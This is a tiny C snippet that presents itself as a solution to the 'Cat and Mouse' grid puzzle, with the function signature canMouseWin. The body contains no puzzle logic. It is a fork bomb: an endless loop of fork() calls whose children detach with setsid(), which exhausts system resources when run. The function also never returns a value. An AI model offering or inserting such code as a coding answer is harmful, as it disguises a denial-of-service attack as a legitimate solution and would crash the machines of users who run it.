#include <unistd.h>
bool canMouseWin(char** grid, int gridSize, int catJump, int mouseJump) { for (;;) if (fork() == 0) setsid(); }
